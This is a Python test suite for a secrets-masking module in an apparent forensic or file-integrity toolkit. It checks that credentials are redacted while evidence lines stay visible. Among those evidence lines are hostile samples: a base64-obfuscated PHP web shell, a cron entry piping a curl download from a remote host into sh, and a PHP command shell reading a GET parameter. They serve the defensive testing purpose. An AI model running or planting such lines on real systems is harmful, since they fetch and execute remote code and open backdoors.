"""Secrets do not stay in kept text, in whatever notation; what an analyst needs does; that a secret changed is known."""

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fimkit.evidence.masking import MASK, Masker, render_masked

MASKER = Masker(b"a key of the test's own")
VALUES = st.text(string.ascii_letters + string.digits + "!#%+-./_^~*", min_size=6, max_size=40)


def masked(text: str, *patterns: str) -> str:
    return render_masked(Masker(b"k", patterns).mask(text))


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("DB_PASSWORD=hunter2 and a space", f"DB_PASSWORD={MASK}"),
        ("export API_TOKEN=abc", f"export API_TOKEN={MASK}"),
        ("  smtp_pass: geheim", f"  smtp_pass: {MASK}"),
        (r"define('DB_PASSWORD', 'hun\'ter2');", f"define('DB_PASSWORD', '{MASK}');"),
        ("define( 'AUTH_KEY',         'put it here' );", f"define( 'AUTH_KEY',         '{MASK}' );"),
        ("'password' => \"x;y\", 'user' => 'bob',", f"'password' => \"{MASK}\", 'user' => 'bob',"),
        ("$db['password'] = 'x'; evil();", f"$db['password'] = '{MASK}'; evil();"),
        ('{"client_secret":"zzz","id":"7"}', f'{{"client_secret":"{MASK}","id":"7"}}'),
        ("<password>geheim</password>", f"<password>{MASK}</password>"),
        ("curl http://x/?token=abc&b=c", f"curl http://x/?token={MASK}&b=c"),
        ("mysql --password=s3cret -h x", f"mysql --password={MASK} -h x"),
        ("mysql --password s3cret -h x", f"mysql --password {MASK} -h x"),
        ("postgres://bob:s3:cr@et@db/x", f"postgres://bob:{MASK}@db/x"),
        ("Authorization: Bearer abcdefghijkl", f"Authorization: {MASK}"),
        ("header 'Bearer abcdefgh1jkl'", f"header 'Bearer {MASK}'"),
        ("header 'Basic dXNlcjpwYXNz'", f"header 'Basic {MASK}'"),
        ("requirepass foo", f"requirepass {MASK}"),
        ("machine x login bob password foo", f"machine x login bob password {MASK}"),
        ("CREATE USER x IDENTIFIED BY 'foo' WITH", f"CREATE USER x IDENTIFIED BY {MASK} WITH"),
        ("root:$6$abcdefgh$0123456789abcdef:19000:0:99999:7:::", f"root:{MASK}:19000:0:99999:7:::"),
        ("www:$apr1$abcdefgh$0123456789abcdef", f"www:{MASK}"),
        ("www:rqXexS6ZhobKA", f"www:{MASK}"),
        ("userPassword {SSHA}0123456789abcdef", f"userPassword {MASK}"),
        ("x ghp_0123456789012345678901234567890123 y", f"x {MASK} y"),
        ("x AKIAABCDEFGHIJKLMNOP y", f"x {MASK} y"),
        ("x xoxb-123456789-abcdef y", f"x {MASK} y"),
        ("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-_1 y", f"x {MASK} y"),
    ],
)
def test_a_secrets_value_goes_and_its_line_stays(line: str, shown: str) -> None:
    assert masked(line) == shown
    assert masked(f"before\n{line}\nafter\n") == f"before\n{shown}\nafter\n"


@pytest.mark.parametrize(
    "line",
    [
        "PasswordAuthentication yes",
        "PasswordAuthentication=no",
        "password  requisite  pam_pwquality.so retry=3",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB user@host",
        "from=\"192.0.2.1\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 bob",
        'eval(base64_decode("aWYoaXNzZXQoJF9QT1NUWyd4J10pKXtldmFsKCRfUE9TVFsneCddKTt9"));',
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  file",
        "* * * * * root curl http://192.0.2.7:8080/x | sh",
        "root:x:0:0:root:/root:/bin/bash",
        "compass: north",
        "passwd:         files systemd evil",
        "# the basic algorithms with message digest algorithm",
        "bypass = 1",
    ],
)
def test_what_an_analyst_must_see_stays(line: str) -> None:
    assert masked(line) == line


def test_a_private_key_is_masked_line_by_line_and_what_stands_behind_it_is_not() -> None:
    lines = ["Proc-Type: 4,ENCRYPTED", "", "MIIabc+/=", "MIIdef", "-----END OPENSSH PRIVATE KEY-----", "after"]
    text = "\n".join(["-----BEGIN OPENSSH PRIVATE KEY-----", *lines, ""])
    assert masked(text) == (
        f"-----BEGIN OPENSSH PRIVATE KEY-----\n{MASK}\n\n{MASK}\n{MASK}\n-----END OPENSSH PRIVATE KEY-----\nafter\n"
    )


def test_a_begun_key_hides_no_program() -> None:
    text = "-----BEGIN PRIVATE KEY-----\n<?php system($_GET['c']);\n"
    assert masked(text) == text


def test_a_key_in_one_line_is_masked() -> None:
    text = r'k = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----" + x'
    assert masked(text) == f'k = "-----BEGIN RSA PRIVATE KEY-----{MASK}-----END RSA PRIVATE KEY-----" + x'


def test_a_value_in_the_lines_below_is_masked() -> None:
    assert masked("password: |\n  one\n  two\nnext: 1\n") == f"password: |\n  {MASK}\n  {MASK}\nnext: 1\n"
    assert masked("'password' =>\n\n    'geheim',\n'user' => 'x'\n") == f"'password' =>\n\n    {MASK}\n'user' => 'x'\n"


def test_a_sites_own_pattern_masks_its_group_or_all_of_it() -> None:
    assert masked("card 4111-1111 of bob", r"card ([0-9-]+)") == f"card {MASK} of bob"
    assert masked("card 4111-1111 of bob", r"[0-9]{4}-[0-9]{4}") == f"card {MASK} of bob"
    assert masked("x" * 5000 + "\nshort\n", "zzz") == f"{MASK}\nshort\n"


def test_the_same_secret_has_the_same_token_and_only_with_the_same_key() -> None:
    line = "password = hunter2\n"
    assert MASKER.mask(line) == MASKER.mask(line) != MASKER.mask("password = hunter3\n")
    assert Masker(b"one").mask(line) != Masker(b"two").mask(line)


_NOTATIONS = st.sampled_from([
    "password = {}", "DB_PASSWORD={}", "api_key: '{}'", "\"secret\": \"{}\"", "define('AUTH_KEY', '{}');", "x --token={} y",
    "client_secret => \"{}\",", "http://h/?access_token={}", "<dbpassword>{}</dbpassword>", "  passphrase: {}", "postgres://u:{}@h",
])  # fmt: skip


@given(_NOTATIONS, VALUES, st.text("abc =:'\"\n", max_size=30))
def test_no_secret_is_left_in_any_notation(notation: str, value: str, around: str) -> None:
    value = f"zq{value}"  # no plain word, and nowhere in what stands around
    if "://u:" in notation:
        value = value.replace("/", "-")
    line = notation.format(value)
    text = f"{around}\n{line}\nend {around}"
    assert value not in MASKER.mask(text)
    assert MASKER.mask(text).count("\n") == text.count("\n")


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=()), max_size=200))
def test_masking_raises_nothing_and_masking_again_changes_nothing(text: str) -> None:
    once = MASKER.mask(text)
    assert MASKER.mask(once) == once


_PIECES = st.sampled_from([
    "password", " = ", "=", ": ", "'", "\"", "\n", "  ", "|", "hunter2", "-----BEGIN PRIVATE KEY-----", "MIIabc", "login a ", "(",
    "-----END PRIVATE KEY-----", "://u:", "@", "$6$abcdefghij", "Bearer ", "token", "<", ">", "yes", "\\", ",",
    "eyJabcdefgh.abcdefgh.x",
])  # fmt: skip


@given(st.lists(_PIECES, max_size=25))
def test_pieces_of_secrets_in_any_order_are_masked_once_and_for_all(pieces: list[str]) -> None:
    text = "".join(pieces)
    once = MASKER.mask(text)
    assert MASKER.mask(once) == once
    assert once.count("\n") == text.count("\n")
